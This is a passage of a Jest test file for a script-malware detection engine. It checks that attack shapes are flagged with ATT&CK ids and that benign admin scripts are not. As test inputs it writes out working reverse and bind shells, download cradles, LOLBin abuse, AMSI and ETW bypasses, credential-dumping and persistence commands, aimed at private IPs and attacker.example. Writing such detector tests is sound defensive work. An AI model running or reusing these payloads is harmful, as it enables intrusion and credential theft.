/**
 * Script detection by technique: every named shape, written here by hand (no third-party
 * samples), must be found with its ATT&CK technique id; hard benign admin scripts must not be
 * flagged above low.
 */
import { analyzeScriptText } from '../../../../src/scan/engines/script';
import { scriptViews } from '../../../../src/scan/engines/script-normalize';

const worst = (text: string) => {
  const { findings } = analyzeScriptText(text);
  const order = ['info', 'low', 'medium', 'high', 'critical'];
  return findings.reduce((a, f) => (order.indexOf(f.severity) > order.indexOf(a) ? f.severity : a), 'info');
};
const technique = (text: string, id: string) => analyzeScriptText(text).findings.find((f) => f.id === `script.technique.${id}`);
/** The text raises the rule, named by its ATT&CK id, at that severity (any, when none is given). */
const expectTechnique = (text: string, id: string, tech: string, severity?: string): void => {
  const f = technique(text, id);
  expect(f).toBeDefined();
  expect(f?.name.startsWith(tech)).toBe(true);
  if (severity !== undefined) expect(f?.severity).toBe(severity);
};

describe('reverse and bind shells, one per interpreter', () => {
  it.each([
    ['bash', 'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1', 'revshell.bash_dev_tcp', 'T1059.004'],
    ['bash exec fd', 'exec 5<>/dev/tcp/attacker.example/443; cat <&5 | while read l; do $l 2>&5 >&5; done', 'revshell.bash_dev_tcp', 'T1059.004'],
    ['bash via variables', 'H=10.1.1.1\nP=9001\nsh -i >& /dev/tcp/$H/$P 0>&1', 'revshell.bash_dev_tcp', 'T1059.004'],
    ['nc -e', 'nc 10.0.0.5 4444 -e /bin/bash', 'revshell.netcat_exec', 'T1059.004'],
    ['ncat --exec', 'ncat --exec cmd.exe 10.0.0.5 4444', 'revshell.netcat_exec', 'T1059.004'],
    ['nc fifo', 'rm /tmp/q;mkfifo /tmp/q;cat /tmp/q|/bin/sh -i 2>&1|nc 10.0.0.5 4444 >/tmp/q', 'revshell.fifo_pipe', 'T1059.004'],
    ['python', 'python3 -c \'import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.5",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")\'', 'revshell.python', 'T1059.006'],
    ['perl', 'perl -e \'use Socket;$i="10.0.0.5";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};\'', 'revshell.perl', 'T1059'],
    ['php', 'php -r \'$sock=fsockopen("10.0.0.5",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'', 'revshell.php', 'T1059'],
    ['ruby', 'ruby -rsocket -e \'f=TCPSocket.open("10.0.0.5",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'', 'revshell.ruby', 'T1059'],
    ['awk', 'awk \'BEGIN {s = "/inet/tcp/0/10.0.0.5/4444"; while(42) { s |& getline c; while ((c |& getline) > 0) print $0 |& s; close(c) } }\' /dev/null', 'revshell.awk', 'T1059.004'],
    ['lua', 'lua -e "require(\'socket\');require(\'os\');t=socket.tcp();t:connect(\'10.0.0.5\',\'4444\');os.execute(\'/bin/sh -i <&3 >&3 2>&3\');"', 'revshell.lua', 'T1059'],
    ['node', '(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var client=new net.Socket();client.connect(4444,"10.0.0.5",function(){client.pipe(sh.stdin);sh.stdout.pipe(client);});})();', 'revshell.node', 'T1059.007'],
    ['openssl', 'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.5:4444 > /tmp/s; rm /tmp/s', 'revshell.openssl', 'T1573.002'],
    ['telnet', 'telnet 10.0.0.5 4444 | /bin/bash | telnet 10.0.0.5 4445', 'revshell.telnet_pipe', 'T1059.004'],
    ['socat', 'socat tcp-connect:10.0.0.5:4444 exec:/bin/sh,pty,stderr,setsid,sigint,sane', 'revshell.socat', 'T1059.004'],
    ['powershell', '$client = New-Object System.Net.Sockets.TCPClient("10.0.0.5",4444);$stream = $client.GetStream();while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){$data = (New-Object Text.ASCIIEncoding).GetString($bytes,0,$i);$sendback = (iex $data 2>&1 | Out-String )}', 'revshell.powershell', 'T1059.001'],
    ['bind nc', 'nc -lvnp 4444 -e /bin/sh', 'bindshell.listener', 'T1059.004'],
  ])('%s', (_n, text, id, tech) => expectTechnique(text, id, tech, 'critical'));
});

describe('download cradles and obfuscation', () => {
  it('a PowerShell cradle written through variables', () => {
    const f = technique('$c=New-Object Net.WebClient;$s=$c.DownloadString("http://10.0.0.5/a.ps1");IEX $s', 'cradle.powershell');
    expect(f?.name).toMatch(/^T1105/);
    expect(f?.severity).toBe('high');
  });
  it('a cradle hidden by backticks, concatenation and case', () => {
    expect(technique("I`E`X (New-Object Net.WebClient).('Down'+'loadStr'+'ing')('http://10.0.0.5/x')", 'cradle.powershell')).toBeDefined();
  });
  it('a cradle built from a char-code array', () => {
    const codes = [...'IEX (New-Object Net.WebClient).DownloadString("http://h/x")'].map((c) => `[char]${c.charCodeAt(0)}`).join('+');
    expect(technique(`& (${codes})`, 'cradle.powershell')).toBeDefined();
  });
  it('a cradle inside -EncodedCommand (UTF-16LE base64)', () => {
    const b64 = Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://10.0.0.5/x")', 'utf16le').toString('base64');
    const f = technique(`powershell.exe -nop -w hidden -enc ${b64}`, 'cradle.powershell');
    expect(f?.description).toMatch(/encodedcommand/);
    expect(technique(`powershell.exe -nop -w hidden -enc ${b64}`, 'exec.encoded_powershell')).toBeDefined();
  });
  it('a reverse shell inside echo | base64 -d | sh', () => {
    const b64 = Buffer.from('bash -i >& /dev/tcp/10.0.0.5/4444 0>&1').toString('base64');
    expect(technique(`echo ${b64} | base64 -d | sh`, 'revshell.bash_dev_tcp')?.description).toMatch(/base64/);
  });
  it('curl from a bare IP piped into a shell is high; from a named https host it is low', () => {
    expect(technique('curl -s http://10.0.0.5/x.sh | bash', 'cradle.shell_pipe_shady')?.severity).toBe('high');
    expect(worst('curl -fsSL https://get.example-tool.dev/install.sh | sh')).toBe('low');
  });
  it('download to /tmp, chmod and run', () => {
    expect(technique('wget -q https://x.example/b -O /tmp/.b; chmod +x /tmp/.b; /tmp/.b &', 'cradle.temp_chmod_exec')).toBeDefined();
  });
});

describe('LOLBins, reflective load, tampering, persistence, credentials', () => {
  it.each([
    ['mshta', 'mshta.exe http://10.0.0.5/run.hta', 'lolbin.mshta', 'T1218.005'],
    ['mshta inline', 'mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""calc"":close")', 'lolbin.mshta', 'T1218.005'],
    ['rundll32 js', 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://10.0.0.5/x.sct")', 'lolbin.rundll32', 'T1218.011'],
    ['rundll32 share', 'rundll32 \\\\10.0.0.5\\share\\payload.dll,EntryPoint', 'lolbin.rundll32', 'T1218.011'],
    ['regsvr32', 'regsvr32 /s /n /u /i:http://10.0.0.5/file.sct scrobj.dll', 'lolbin.regsvr32', 'T1218.010'],
    ['certutil', 'certutil.exe -urlcache -split -f http://10.0.0.5/p.exe p.exe', 'lolbin.certutil_download', 'T1105'],
    ['bitsadmin', 'bitsadmin /transfer job /download /priority high http://10.0.0.5/p.exe C:\\Users\\Public\\p.exe', 'lolbin.bitsadmin', 'T1197'],
    ['reflective load', '$b = (New-Object Net.WebClient).DownloadData("http://10.0.0.5/a.dll"); [Reflection.Assembly]::Load($b).EntryPoint.Invoke($null, $null)', 'exec.reflective_load', 'T1620'],
    ['reflective base64', '[System.Reflection.Assembly]::Load([Convert]::FromBase64String($payload))', 'exec.reflective_load', 'T1620'],
    ['amsi', "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)", 'evasion.amsi', 'T1562.001'],
    ['amsi concat', "[Ref].Assembly.GetType('System.Management.Automation.'+'Am'+'siUt'+'ils')", 'evasion.amsi', 'T1562.001'],
    ['etw', '$p = GetProcAddress(LoadLibrary("ntdll.dll"), "EtwEventWrite"); VirtualProtect($p, 1, 0x40, [ref]$o); WriteByte($p, 0xC3)', 'evasion.etw', 'T1562.006'],
    ['wmi persistence', '$f = Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{Name="u"}; Set-WmiInstance -Class CommandLineEventConsumer -Arguments @{CommandLineTemplate="powershell -enc AAAA"}', 'persist.wmi_subscription', 'T1546.003'],
    ['mimikatz', 'Invoke-Mimikatz -Command "sekurlsa::logonpasswords"', 'cred.mimikatz', 'T1003.001'],
    ['lsass dump', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full', 'cred.lsass_dump', 'T1003.001'],
    ['sam hive', 'reg save HKLM\\SAM C:\\temp\\sam.save', 'cred.sam_hive', 'T1003.002'],
  ])('%s', (_n, text, id, tech) => expectTechnique(text, id, tech));

  it.each([
    ['cron', '(crontab -l; echo "*/5 * * * * curl -s http://10.0.0.5/x | sh") | crontab -', 'persist.cron', 'T1053.003'],
    ['run key', 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /t REG_SZ /d "mshta http://10.0.0.5/x.hta"', 'persist.run_key', 'T1547.001'],
    ['schtasks', 'schtasks /create /sc minute /tn upd /tr "powershell -w hidden -ep bypass -c IEX(New-Object Net.WebClient).DownloadString(\'http://10.0.0.5/a\')"', 'persist.schtasks', 'T1053.005'],
    ['service', 'sc create updsvc binPath= "cmd /c certutil -urlcache -f http://10.0.0.5/s.exe %TEMP%\\s.exe" start= auto', 'persist.service', 'T1543.003'],
  ])('persistence next to an offensive technique is high: %s', (_n, text, id, tech) => {
    const f = technique(text, id);
    expect(f?.name.startsWith(tech)).toBe(true);
    expect(f?.severity).toBe('high');
  });
});

describe('hard benign admin scripts stay at low or below', () => {
  it.each([
    ['installer with checksum', '#!/bin/sh\nset -eu\nURL="https://releases.example.org/tool/v1.2.3/tool-linux-amd64.tar.gz"\ncurl -fsSL "$URL" -o /tmp/tool.tgz\necho "3b1f...  /tmp/tool.tgz" | sha256sum -c -\ntar -xzf /tmp/tool.tgz -C /usr/local/bin\n'],
    ['base64 config', '#!/bin/bash\nkubectl get secret db -o jsonpath="{.data.password}" | base64 -d > /run/secrets/db\nchmod 600 /run/secrets/db\n'],
    ['backup cron', '#!/bin/sh\n(crontab -l 2>/dev/null; echo "0 3 * * * /usr/local/bin/backup.sh") | crontab -\n'],
    ['windows update task', 'Register-ScheduledTask -TaskName "Nightly cleanup" -Action (New-ScheduledTaskAction -Execute "cleanmgr.exe" -Argument "/sagerun:1") -Trigger (New-ScheduledTaskTrigger -Daily -At 3am)'],
    ['driver install from a driver folder', 'InfDefaultInstall.exe C:\\Drivers\\Printer\\hpcu250u.inf'],
    ['msi from a named deployment share', 'msiexec /i \\\\deploy01\\packages\\agent.msi /qn /norestart'],
    ['msi download', '$msi = "$env:TEMP\\agent.msi"\nInvoke-WebRequest -Uri "https://downloads.example.com/agent/agent-2.4.msi" -OutFile $msi\nStart-Process msiexec.exe -ArgumentList "/i `"$msi`" /qn" -Wait\n'],
    ['base64 cert', '$bytes = [Convert]::FromBase64String($certB64)\n[IO.File]::WriteAllBytes("C:\\certs\\root.cer", $bytes)\nImport-Certificate -FilePath C:\\certs\\root.cer -CertStoreLocation Cert:\\LocalMachine\\Root\n'],
    ['netcat port check', 'if nc -z -w 2 db.internal 5432; then echo up; fi'],
    ['service install', 'New-Service -Name "MetricsAgent" -BinaryPathName "C:\\Program Files\\Metrics\\agent.exe" -StartupType Automatic'],
  ])('%s', (_n, text) => {
    expect(['info', 'low']).toContain(worst(text));
  });
});

describe('dual-use capabilities of real software stay below an attack (issue 30)', () => {
  it('a PHP mail client opening a socket and running a program is not a reverse shell', () => {
    const smtp = [
      '$this->smtp_conn = fsockopen($host, $port, $errno, $errstr, $timeout);',
      'if (!is_resource($this->smtp_conn)) { return false; }',
      '$sock = $this->smtp_conn;',
      '$mail = popen($this->Sendmail . " -oi -t", "w");',
    ].join('\n');
    expect(technique(smtp, 'revshell.php')).toBeUndefined();
  });
  it('a /dev/tcp client that sends a request and reads the answer is not a reverse shell; wiring a shell to it is', () => {
    const client = '#!/bin/bash\nexec 3<>/dev/tcp/$HOST/$PORT\necho -e "GET / HTTP/1.1\\r\\nHost: $HOST\\r\\n\\r\\n" >&3\ncat <&3\nexec 3>&-\n';
    const reader = '#!/bin/sh\nexec 4<>/dev/tcp/$1/$2\nwhile read -r line <&4; do echo "$line"; done\n';
    for (const text of [client, reader]) {
      expect(technique(text, 'revshell.bash_dev_tcp')).toBeUndefined();
      expect(analyzeScriptText(text).findings.find((f) => f.id === 'script.reverse_shell.dev_tcp')).toBeUndefined();
    }
    for (const text of [
      '0<&196;exec 196<>/dev/tcp/10.0.0.5/4444; sh <&196 >&196 2>&196',
      'exec 3<>/dev/tcp/10.0.0.5/4444\nwhile read -r cmd <&3\ndo\n  eval "$cmd" >&3 2>&3\ndone',
      '/bin/bash -l > /dev/tcp/10.0.0.5/4444 0<&1 2>&1',
    ]) {
      expect(technique(text, 'revshell.bash_dev_tcp')?.severity).toBe('critical');
      expect(analyzeScriptText(text).findings.find((f) => f.id === 'script.reverse_shell.dev_tcp')).toBeDefined();
    }
  });
  it('a program reading /etc/shadow (a password helper, an audit tool) is low alone; dumping it with a command is high', () => {
    const helper = 'def locked(user):\n    for line in open("/etc/shadow", "r"):\n        name, pw = line.split(":")[:2]\n        if name == user:\n            return pw.startswith("!")\n';
    expect(technique(helper, 'cred.shadow_read')?.severity).toBe('low');
    expect(technique(helper, 'cred.shadow_file')).toBeUndefined();
    expect(technique('while IFS=: read u p rest; do [ -z "$p" ] && echo "$u has no password"; done < /etc/shadow', 'cred.shadow_read')?.severity).toBe('low');
    // Text tools parsing it (an audit listing accounts) are reading it; printing the hash field is dumping.
    expect(technique("awk -F: '{ print $1 }' /etc/shadow | sort | uniq -d", 'cred.shadow_file')).toBeUndefined();
    expect(technique("awk -F: '{ print $1 }' /etc/shadow | sort | uniq -d", 'cred.shadow_read')?.severity).toBe('low');
    expect(technique("awk -F: '{print $2}' /etc/shadow", 'cred.shadow_file')?.severity).toBe('high');
    expect(technique('cut -d: -f2 /etc/shadow', 'cred.shadow_file')?.severity).toBe('high');
    // Prose naming a tool is not a command.
    expect(technique('"""Checks /etc/passwd, or python\'s spwd module (which checks /etc/shadow)."""', 'cred.shadow_file')).toBeUndefined();
    expect(technique('sudo cat /etc/shadow > /tmp/s.txt', 'cred.shadow_file')?.severity).toBe('high');
    // Read by a program and sent away: the read is high in that company.
    const sent = `${helper}import socket\ns=socket.socket();s.connect(("10.0.0.5",4444))\nimport os,pty\n[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\n`;
    expect(technique(sent, 'cred.shadow_read')?.severity).toBe('high');
  });
  it("the WScript object echoing a URL is not the script host run on one; replace.exe needs a share, not prose", () => {
    expect(technique('WScript.Echo "For full documentation, see: https://github.com/example/tool#readme"', 'lolbin.script_host_remote')).toBeUndefined();
    expect(technique('wscript.exe https://203.0.113.9/a.js', 'lolbin.script_host_remote')?.severity).toBe('high');
    expect(technique("# replace \\\\$ with $, and don't touch the rest", 'lolbin.download_helper')).toBeUndefined();
    expect(technique('replace.exe \\\\webdav.example\\share\\a.exe c:\\out /A', 'lolbin.download_helper')?.severity).toBe('high');
  });
  it("Mimikatz commands are whole words at its prompt, not a framework's static calls", () => {
    for (const text of ['Event::clearResolvedInstances();', 'Event::clear();', '$all = Vault::list($path);', '$t = Token::list();']) expect(technique(text, 'cred.mimikatz')).toBeUndefined();
    for (const text of ['mimikatz.exe "event::clear" exit', 'mimikatz # token::elevate', 'vault::cred /patch', 'm.exe "privilege::debug" "sekurlsa::logonpasswords"']) expect(technique(text, 'cred.mimikatz')?.severity).toBe('critical');
  });
  it("Windows API names in a word list (a syntax highlighter's keywords) are not a loader; the calls are", () => {
    const list = `<?php\n$language_data = array('KEYWORDS' => array(5 => array(\n  'CreateFiber', 'CreateRemoteThread', 'CreateThread', 'GetProcAddress', 'LoadLibrary',\n  'RtlMoveMemory', 'VirtualAlloc', 'VirtualAllocEx', 'VirtualProtect', 'WriteProcessMemory', 'OpenProcess'\n)));\n`;
    expect(technique(list, 'exec.shellcode_runner')).toBeUndefined();
    expect(technique(list, 'evasion.memory_patch')).toBeUndefined();
    const runner = '$p = $k::VirtualAlloc(0, $sc.Length, 0x3000, 0x40)\n[Runtime.InteropServices.Marshal]::Copy($sc, 0, $p, $sc.Length)\n$k::CreateThread(0, 0, $p, 0, 0, 0)';
    expect(technique(runner, 'exec.shellcode_runner')?.severity).toBe('high');
    // The names listed and then called: the calls still count.
    expect(technique(`$apis = 'CreateThread', 'VirtualAlloc', 'VirtualFree', 'OpenProcess'\n${runner}`, 'exec.shellcode_runner')?.severity).toBe('high');
    const patch = '$a = $k::GetProcAddress($h, "AmsiScanBuffer")\n$k::VirtualProtect($a, [uint32]5, 0x40, [ref]$o)\n[Runtime.InteropServices.Marshal]::Copy($b, 0, $a, 6)';
    expect(technique(patch, 'evasion.memory_patch')?.severity).toBe('high');
  });
  it('a PHP socket wired to a shell through a variable command is still a reverse shell', () => {
    const shell = "$shell = 'uname -a; id; /bin/sh -i';\n$sock = fsockopen($ip, $port);\n$process = proc_open($shell, $spec, $pipes);";
    expect(technique(shell, 'revshell.php')?.severity).toBe('critical');
  });
  it('re-registering the scripting runtime is not Squiblydoo; a scriptlet handed to scrobj is', () => {
    expect(technique('regsvr32 /s scrobj.dll', 'lolbin.regsvr32')).toBeUndefined();
    expect(technique('regsvr32 /s /u /i:C:\\Users\\Public\\x.sct scrobj.dll', 'lolbin.regsvr32')?.severity).toBe('high');
  });
  it("a vendor's install script from raw.githubusercontent.com piped to bash is the low installer idiom", () => {
    const text = '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"';
    expect(technique(text, 'cradle.shell_pipe_shady')).toBeUndefined();
    expect(worst(text)).toBe('low');
    expect(technique('curl -fsSL https://raw.githubusercontent.com/x/y/main/a.exe -o a.exe | sh', 'cradle.shell_pipe_shady')?.severity).toBe('high');
  });
  it('a PowerShell cradle from a named HTTPS host is medium with the reason named; from a bare IP or obfuscated it stays high', () => {
    const vendor = technique('iex "& { $(irm https://aka.ms/install-powershell.ps1) } -UseMSI"', 'cradle.powershell');
    expect(vendor?.severity).toBe('medium');
    expect(vendor?.description).toMatch(/named HTTPS host/);
    expect(worst('iex "& { $(irm https://aka.ms/install-powershell.ps1) } -UseMSI"')).toBe('medium');
    expect(technique('iex (iwr http://203.0.113.9/a.ps1)', 'cradle.powershell')?.severity).toBe('high');
    expect(technique("I`E`X (New-Object Net.WebClient).('Down'+'loadStr'+'ing')('https://cdn.example.com/x')", 'cradle.powershell')?.severity).toBe('high');
  });
  it("a command line joined with spaces and run (npm's npm.ps1) is not obfuscation; characters joined with nothing are", () => {
    const npm = "$argv = ($tokens | Select-Object -Skip 1) -join ' '\nInvoke-Expression \"& `\"$NODE_EXE`\" `\"$NPM_CLI_JS`\" $argv\"\n$input | & $NODE_EXE $NPM_CLI_JS $args";
    expect(technique(npm, 'exec.obfuscated_iex')).toBeUndefined();
    expect(technique("$cmd = ($frag -join '')\n$cmd | iex", 'exec.obfuscated_iex')).toBeDefined();
  });
  it('library code from the benign corpus shapes stays quiet: sockets without a shell, namespaces, helper scripts, char codes, escapes', () => {
    const quiet = [
      'import os, socket\ns = socket.socket()\ns.connect(("localhost", port))\nos.dup2(s.fileno(), 5)\nos.close(5)\n',
      'use IO::Socket::INET;\nmy $sock = IO::Socket::INET->new("$host:443") or die;\nwhile (<$sock>) { print $_ }\n',
      'my %ns = (xsd => "http://www.w3.org/2001/XMLSchema");\n# open in Excel http://www.example.org/spec.html\n',
      'execFile("cscript", ["//E:JScript", "//Nologo", path.join(__dirname, "regList.wsf")]);',
      "const cscript = 'c:\\\\windows\\\\system32\\\\cscript.exe'",
    ];
    for (const text of quiet) expect(['info', 'low']).toContain(worst(text));
    const codes = Array.from({ length: 25 }, (_, i) => `chr(${40 + i})`).join('\n');
    expect(worst(`${codes}\n${'x = compute(a, b) # ordinary code\n'.repeat(1500)}`)).toBe('info');
    expect(worst(`Write-Host "Done${'`n'.repeat(15)}"\n$msg = "a\`tb\`r\`n"`)).toBe('info');
  });
  it('a Node CLI client with a socket and child processes is not a reverse shell unless it spawns a shell', () => {
    const cli = 'const net = require("net");\nconst { spawn } = require("child_process");\nconst sock = net.connect(port, host);\nsock.on("data", (d) => out.write(d));\nconst child = spawn(process.execPath, [script]);\nchild.stdout.pipe(sock);';
    expect(technique(cli, 'revshell.node')).toBeUndefined();
    expect(technique(cli.replace('spawn(process.execPath, [script])', 'spawn("/bin/sh", [])'), 'revshell.node')?.severity).toBe('critical');
  });
  it('the same capabilities with the attack shape are still found', () => {
    expect(technique('import socket,os\ns=socket.socket()\ns.connect(("10.0.0.5",443))\nos.dup2(s.fileno(),0)\nos.system("/bin/sh")', 'revshell.python')?.severity).toBe('critical');
    expect(technique('use IO::Socket;$c=IO::Socket::INET->new("10.0.0.5:443");while(<$c>){system $_}', 'revshell.perl')?.severity).toBe('critical');
    expect(technique('excel.exe http://203.0.113.9/addin.dll', 'lolbin.signed_binary_url')).toBeDefined();
    expect(technique('cscript //E:JScript C:\\Users\\Public\\notes.txt', 'lolbin.script_host_remote')).toBeDefined();
    expect(technique('cscript //nologo \\\\10.0.0.5\\share\\a.vbs', 'lolbin.script_host_remote')).toBeDefined();
  });
  it("an HTTP COM object, an eval and a regex's .exec far apart in a library are not a cradle; together they are", () => {
    const filler = 'function pad(s, n) { while (s.length < n) { s = " " + s; } return s; }\n'.repeat(200);
    const xhr = 'function xhr() { try { return new XMLHttpRequest(); } catch (e) { return new ActiveXObject("Microsoft.XMLHTTP"); } }\n';
    const library = `${xhr}${filler}var m = /^(\\d+)px$/.exec(size);\n${filler}var data = eval("(" + json + ")");\n`;
    expect(technique(library, 'cradle.wsh_com')).toBeUndefined();
    const cradle = 'var h = new ActiveXObject("MSXML2.XMLHTTP"); h.open("GET", u, false); h.send();\neval(h.responseText);\nnew ActiveXObject("WScript.Shell").Run("calc.exe");\n';
    expect(technique(cradle, 'cradle.wsh_com')?.severity).toBe('high');
    expect(technique(`${filler}${cradle}${filler}`, 'cradle.wsh_com')?.severity).toBe('high');
    // Many anchors far apart: each window is read on its own, and a later one still counts.
    expect(technique(`${`${xhr}${filler}`.repeat(5)}${cradle}`, 'cradle.wsh_com')).toBeDefined();
  });
  it("the COM object as a web page's fallback for XMLHttpRequest, next to an eval of JSON, is AJAX, not a cradle", () => {
    const ajax = "function ajax(url, cb) {\n  var r = (window.XMLHttpRequest ? new XMLHttpRequest() : (window.ActiveXObject ? new ActiveXObject('Microsoft.XMLHTTP') : false));\n  r.open('GET', url); r.onreadystatechange = function () { if (r.readyState == 4) cb(eval('(' + r.responseText + ')')); };\n  var m = /^(\\d+)px$/.exec(url);\n}\n";
    expect(technique(ajax, 'cradle.wsh_com')).toBeUndefined();
    // The native object tried after the COM one (tw-sack.js) is AJAX too.
    const after = 'try { this.xmlhttp = new ActiveXObject("Msxml2.XMLHTTP"); } catch (e1) { this.xmlhttp = null; }\nif (!this.xmlhttp) this.xmlhttp = new XMLHttpRequest();\nvar o = eval(this.response); var m = /x/.exec(s);\n';
    expect(technique(after, 'cradle.wsh_com')).toBeUndefined();
    // The native object tested lines before the COM fallbacks (phpldapadmin's ajax_functions.js).
    const before = "function req(url) {\n  var http_request = false;\n  if (window.XMLHttpRequest) { // Mozilla, Safari\n    http_request = new XMLHttpRequest();\n  } else if (window.ActiveXObject) { // IE\n    try {\n      http_request = new ActiveXObject('Msxml2.XMLHTTP');\n    } catch (e) {\n      http_request = new ActiveXObject('Microsoft.XMLHTTP');\n    }\n  }\n  http_request.onreadystatechange = function () { var o = eval('(' + http_request.responseText + ')'); var m = /x/.exec(url); };\n}\n";
    expect(technique(before, 'cradle.wsh_com')).toBeUndefined();
    const wsh = 'var h = new ActiveXObject("MSXML2.XMLHTTP"); h.open("GET", u, false); h.send();\neval(h.responseText);\n';
    expect(technique(wsh, 'cradle.wsh_com')?.severity).toBe('high');
  });
  it("a syntax highlighter's PowerShell keywords (an alternation, a run of bare words) are not a cradle; the cradle is", () => {
    const alternation = 'var builtins = /^(?:cat|cd|clear|cls|copy|echo|gc|gcm|gwmi|h|history|icm|iex|ihy|ii|ipal|ipcsv|ipmo|irm|ise|iwmi|iwr|kill|lp|ls|man|md)$/i;\n';
    const words = "    'h history icm iex ihy ii ipal ipcsv ipmo ipsn irm ise iwmi iwr kill lp ls man md measure mi mount move mp mv'\n";
    for (const text of [alternation, words]) {
      expect(technique(text, 'cradle.powershell')).toBeUndefined();
      expect(analyzeScriptText(text).findings.find((f) => f.id === 'script.download_execute.powershell')).toBeUndefined();
    }
    expect(technique('irm https://203.0.113.9/a.ps1 | iex', 'cradle.powershell')?.severity).toBe('high');
    expect(analyzeScriptText('iex (iwr http://203.0.113.9/a.ps1)').findings.find((f) => f.id === 'script.download_execute.powershell')).toBeDefined();
  });
  it('a request parameter in backticks inside a doc comment is Markdown, not the shell operator', () => {
    const doc = "/**\n * Retrieves the user.\n *\n * @param string $login Defaults to `$_POST['user_login']` if not given.\n */\nfunction get_user($login = null) { return $login; }\n";
    expect(technique(doc, 'webshell.php')).toBeUndefined();
    expect(technique("<?php echo `$_GET['c']`; ?>", 'webshell.php')?.severity).toBe('high');
  });
  it("zsh's tcp_proxy hands a connection to any command it is given; a shell handed one is a reverse shell", () => {
    const proxy = 'ztcp -l $port\nztcp -a $REPLY\n"$@" <&$REPLY >&$REPLY\n';
    expect(technique(`${proxy}ztcp -c 8080`, 'revshell.zsh_ztcp')).toBeUndefined();
    expect(technique("zsh -c 'zmodload zsh/net/tcp && ztcp 10.0.0.5 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'", 'revshell.zsh_ztcp')?.severity).toBe('critical');
  });
  it('an escaped local path in a docstring is not a share; rundll32 on a share is', () => {
    expect(technique('"btmtrayagent"="rundll32.exe \\"c:\\\\\\\\program files (x86)\\\\\\\\intel\\\\\\\\bluetooth\\\\\\\\btmshellex.dll\\",trayapp"', 'lolbin.rundll32')).toBeUndefined();
    expect(technique('rundll32.exe \\\\10.0.0.5\\share\\x.dll,Entry', 'lolbin.rundll32')?.severity).toBe('high');
  });
  it("a task running an installed script with -ExecutionPolicy Bypass is an administrator's; an inline or hidden command is not", () => {
    const admin = '$result = schtasks /create /tn "Agent update" /tr "powershell.exe -ExecutionPolicy Bypass -File C:\\Program Files\\Agent\\update.ps1" /sc once /st $time';
    expect(technique(admin, 'persist.interpreter_payload')).toBeUndefined();
    expect(technique('schtasks /create /tn u /tr "powershell.exe -ep bypass -c iex(gc C:\\x.txt)" /sc onlogon', 'persist.interpreter_payload')?.severity).toBe('high');
    expect(technique('schtasks /create /tn u /tr "powershell.exe -WindowStyle Hidden -File C:\\Program Files\\x.ps1" /sc onlogon', 'persist.interpreter_payload')?.severity).toBe('high');
  });
  it('WScript.Shell running a program is a named low capability', () => {
    const f = analyzeScriptText('Set sh = CreateObject("WScript.Shell")\nsh.Run "notepad.exe", 1, True').findings.find((x) => x.id === 'script.wsh.shell_run');
    expect(f?.severity).toBe('low');
    expect(f?.description).toMatch(/admin scripts use too/);
  });
});

describe('normalisation', () => {
  it('keeps every view linear-sized and lower-cased', () => {
    const views = scriptViews("W`rite-Host ('a'+'b')");
    expect(views.map((v) => v.via)).toContain('deobfuscated');
    expect(views.find((v) => v.via === 'deobfuscated')?.text).toContain("write-host ('ab')");
  });
});

describe('technique shapes added for issue 11 (one per shape, each names its ATT&CK id)', () => {
  const b64 = (s: string) => Buffer.from(s, 'utf16le').toString('base64');
  it.each([
    ['powercat', 'powercat -c 10.0.0.5 -p 443 -e cmd', 'revshell.powercat', 'T1059.001'],
    ['shell handed to a tool', "socket -qvp '/bin/sh -i' 10.0.0.5 443", 'revshell.shell_to_tool', 'T1059.004'],
    ['shell catcher', 'rlwrap nc -lvnp 443', 'c2.shell_catcher', 'T1095'],
    ['tty upgrade', 'python3 -c \'import pty; pty.spawn("/bin/bash")\'', 'exec.pty_upgrade', 'T1059.006'],
    ['find shell escape', 'sudo find / -maxdepth 0 -exec /bin/sh -p \\; -quit', 'exec.shell_escape', 'T1059.004'],
    ['awk system shell', 'sudo awk \'BEGIN {system("/bin/sh")}\'', 'exec.shell_escape', 'T1059.004'],
    ['suid shell copy', 'cp /bin/sh /tmp/.x && chmod u+s /tmp/.x', 'privesc.suid_shell', 'T1548.001'],
    ['container escape', 'docker run --rm -it -v /:/host alpine chroot /host /bin/sh', 'privesc.container_escape', 'T1611'],
    ['uid 0 account', 'useradd -o -u 0 -g 0 -M -s /bin/bash sysd', 'privesc.root_account', 'T1136.001'],
    ['uac bypass', 'New-Item "HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command" -Force; Set-ItemProperty "HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command" -Name DelegateExecute -Value ""; Start-Process fodhelper.exe', 'privesc.uac_bypass', 'T1548.002'],
    ['cron from temp', 'echo "@reboot /dev/shm/.u" > /etc/cron.d/u', 'persist.cron_payload', 'T1053.003'],
    ['crontab from file', 'crontab /tmp/.c', 'persist.cron_file', 'T1053.003'],
    ['rc.local payload', 'echo "nc 10.0.0.5 443 -e /bin/sh &" >> /etc/rc.local', 'persist.boot_payload', 'T1037.004'],
